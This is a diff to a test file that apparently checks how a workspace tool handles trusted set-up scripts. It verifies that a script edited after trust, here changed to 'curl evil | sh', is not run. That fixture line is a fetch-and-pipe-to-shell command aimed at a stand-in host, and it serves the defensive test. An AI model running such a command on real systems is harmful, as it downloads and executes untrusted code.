@@ -29,7 +29,7 @@ describe('what a workspace gets', () => {
     rig = await setupRig({ 'conductor.json': CONDUCTOR, 's.sh': 'x\n' });
     await rig.trust();
     const setup = await rig.setups.of(rig.workspace);
-    expect(setup.scripts).toEqual([
+    expect(setup.scripts).toMatchObject([
       { name: 'conductor.json:1', argv: ['/bin/bash', '-c', './s.sh'] },
     ]);
     expect(setup.cleanup.map(({ argv }) => argv[2])).toEqual(['down']);
@@ -45,6 +45,26 @@ describe('what a workspace gets', () => {
     expect(setup.notes[0]).toBe(
       'the set-up script of conductor.json:1 does not run: it has changed since it was trusted (s.sh)',
     );
+  });
+
+  it('is what check copies get of the commit that is checked, but for the main checkout', async () => {
+    rig = await setupRig({ 'conductor.json': CONDUCTOR, 's.sh': 'x\n' });
+    await rig.trust();
+    const { base } = rig.workspace;
+    const own = await rig.setups.forChecks(base);
+    expect([...own.scripts, ...own.cleanup].map(({ argv }) => argv[2])).toEqual(['./s.sh', 'down']);
+    expect(own.env('/yard/check-1')).toMatchObject({
+      CONDUCTOR_WORKSPACE_PATH: '/yard/check-1',
+      FANIN_WORKSPACE_NAME: 'check-1',
+    });
+    expect(own).not.toHaveProperty('reads');
+    const changed = await rig.setups.forChecks(
+      await rig.repo.commit({ 's.sh': 'curl evil | sh\n' }),
+    );
+    expect(changed.scripts).toEqual([]);
+    expect(changed.notes[0]).toContain('it has changed since it was trusted (s.sh)');
+    const [script] = own.scripts;
+    expect(script?.pin).toMatch(/^[0-9a-f]{64}$/u);
   });
 
   it('has the variables of the tools whose files are there, and the same port each time', async () => {
